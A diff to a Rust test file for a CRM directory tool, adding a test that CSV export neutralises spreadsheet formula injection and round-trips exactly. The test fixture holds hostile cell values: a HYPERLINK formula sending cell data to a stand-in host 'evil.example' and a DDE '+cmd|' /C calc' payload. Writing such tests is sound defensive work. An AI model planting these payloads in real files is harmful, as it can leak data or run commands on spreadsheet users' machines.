@@ -175,7 +175,9 @@ fn reimport_changes_nothing_and_export_round_trips() {
         "{text}"
     );
     assert!(
-        text.contains("1001;Иванова;Мария;Ивановна;+79161234567, +74957654321;maria@example.com\n"),
+        text.contains(
+            "1001;Иванова;Мария;Ивановна;'+79161234567, +74957654321;maria@example.com\n"
+        ),
         "{text}"
     );
 
@@ -323,6 +325,80 @@ fn export_to_a_dash_writes_standard_output() {
         "{stderr}"
     );
     assert!(!home.path("-").exists());
+}
+
+/// Every client of a directory file, in its order.
+fn entries(db: &Path) -> Vec<crmcard::directory::DirEntry> {
+    let mut all = Vec::new();
+    Directory::open(db)
+        .expect("open")
+        .for_each(|e| {
+            all.push(e);
+            Ok(())
+        })
+        .expect("read");
+    all
+}
+
+const HOSTILE: &str = "id,lastname,firstname,middlename,phones,emails\n\
+    2001,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",+cmd|' /C calc'!A0,@SUM(1),+79160000001,=x@y.com\n\
+    2002,'t Hooft,-Анна,'=hand-made,89160000002,\"a@b.ru; =c@d.ru\"\n\
+    -3,''два,Ольга,,8 (916) 000-00-03,\n";
+
+#[test]
+fn export_neutralises_formulas_and_reads_back_exactly() {
+    let home = Home::new();
+    let csv = home.write("hostile.csv", HOSTILE.as_bytes());
+    let first = home.path("first.sqlite");
+    home.ok(&["directory", "--file", s(&first), "import", s(&csv)]);
+    let imported = entries(&first);
+    let hostile = imported.iter().find(|e| e.id == "2001").expect("2001");
+    assert_eq!(
+        hostile.lastname,
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
+    );
+    assert_eq!(hostile.emails, ["=x@y.com"]);
+    // A hand-made `'` before a formula is the spreadsheet's text mark.
+    let other = imported.iter().find(|e| e.id == "2002").expect("2002");
+    assert_eq!(
+        (other.lastname.as_str(), other.middlename.as_str()),
+        ("'t Hooft", "=hand-made")
+    );
+
+    let exported = home.path("export.csv");
+    home.ok(&["directory", "--file", s(&first), "export", s(&exported)]);
+    let text = std::fs::read_to_string(&exported).expect("read");
+    // No cell starts as a formula; every phone cell is marked as text.
+    let mut reader = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    for record in reader.records() {
+        let record = record.expect("record");
+        for cell in record.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} would be computed"
+            );
+        }
+        assert!(record[4].starts_with("'+7"), "{:?}", &record[4]);
+    }
+    assert!(text.contains("'=HYPERLINK("), "{text}");
+    assert!(
+        text.contains(";'+cmd|' /C calc'!A0;'@SUM(1);'+79160000001;'=x@y.com\n"),
+        "{text}"
+    );
+    assert!(
+        text.contains("2002;''t Hooft;'-Анна;'=hand-made;"),
+        "{text}"
+    );
+
+    // Read back by crmcard: exactly the same clients, and the same file.
+    let second = home.path("second.sqlite");
+    home.ok(&["directory", "--file", s(&second), "import", s(&exported)]);
+    assert_eq!(entries(&second), imported);
+    let again = home.path("again.csv");
+    home.ok(&["directory", "--file", s(&second), "export", s(&again)]);
+    assert_eq!(std::fs::read_to_string(&again).expect("read"), text);
 }
 
 #[test]
